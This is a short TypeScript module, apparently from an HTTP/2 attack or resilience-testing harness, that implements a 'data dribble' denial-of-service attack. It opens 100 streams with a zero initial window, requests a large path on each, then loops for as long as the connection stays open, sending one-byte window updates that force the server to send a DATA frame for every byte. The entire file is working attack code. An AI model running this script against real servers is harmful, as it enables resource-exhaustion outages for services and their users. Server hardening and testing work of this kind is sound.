import type { Attacker } from '../lib/attacker.ts'
import { getting, INITIAL_WINDOW_SIZE, windowUpdate } from '../lib/frames.ts'
import { paths } from '../lib/paths.ts'

const streamCount = 100

/** Large responses to shut windows, which are then opened byte by byte: a DATA frame for each. */
export async function dataDribble(attacker: Attacker): Promise<void> {
  const script: Parameters<Attacker['http2']>[0] = async (connection) => {
    const ids = Array.from({ length: streamCount }, () => connection.nextStream())
    await connection.send(Buffer.concat(ids.map((id) => getting(id, paths.large))), 0)
    const bytes = Buffer.concat([
      windowUpdate(0, streamCount),
      ...ids.map((id) => windowUpdate(id, 1)),
    ])
    while (connection.isOpen) await connection.send(bytes, streamCount)
  }
  await attacker.http2(script, { settings: [[INITIAL_WINDOW_SIZE, 0]] })
}
